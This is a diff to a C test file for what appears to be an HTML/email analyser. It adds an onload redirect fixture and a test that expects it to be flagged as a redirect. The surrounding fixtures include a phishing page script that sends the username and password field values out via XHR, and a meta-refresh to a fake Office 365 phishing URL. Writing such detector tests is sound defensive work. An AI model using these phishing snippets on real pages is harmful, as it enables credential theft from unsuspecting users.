@@ -268,6 +268,9 @@ static const char page_phish_js[] =
     "  x.send(document.getElementById('u').value + ':' + document.getElementById('p').value); }\n"
     "</script></body></html>\n";
 
+static const char page_onload[] =
+    "<html><body onload=\"top.location = 'https://onload.example.invalid/'\"></body></html>";
+
 static const char page_refresh[] =
     "<html><head><meta http-equiv=\"Refresh\" content=\"0; URL='https://phish.example.invalid/o365/?id=77'\">"
     "</head><body>Loading your document...</body></html>\n";
@@ -291,6 +294,7 @@ static const char page_newsletter[] =
     "<form action=\"https://news.example.org/search\" method=\"get\">"
     "<input type=\"text\" name=\"q\"><input type=\"submit\" value=\"Search\"></form>"
     "<p><a href=\"https://news.example.org/unsubscribe?u=1\">Unsubscribe</a></p>"
+    "<button onclick=\"window.location.href='https://shop.example.org/'\">Shop</button>"
     "<img src=\"https://news.example.org/open.gif?u=1\" width=\"1\" height=\"1\">"
     "</td></tr></table></body></html>\n";
 
@@ -406,6 +410,11 @@ test_redirects(void **state)
 	want_fact(t, "doc.html", "HTML_REDIRECT",
 	    "meta refresh to https://phish.example.invalid/o365/?id=77");
 	assert_true(has_url(by_path(t, "doc.html"), "https://phish.example.invalid/o365/?id=77"));
+	obj_tree_free(t);
+
+	t = build("doc.html", page_onload);
+	want_fact(t, "doc.html", "HTML_REDIRECT",
+	    "script sets location to https://onload.example.invalid/");
 	obj_tree_free(t);
 
 	t = build("doc.html", page_jsredir);
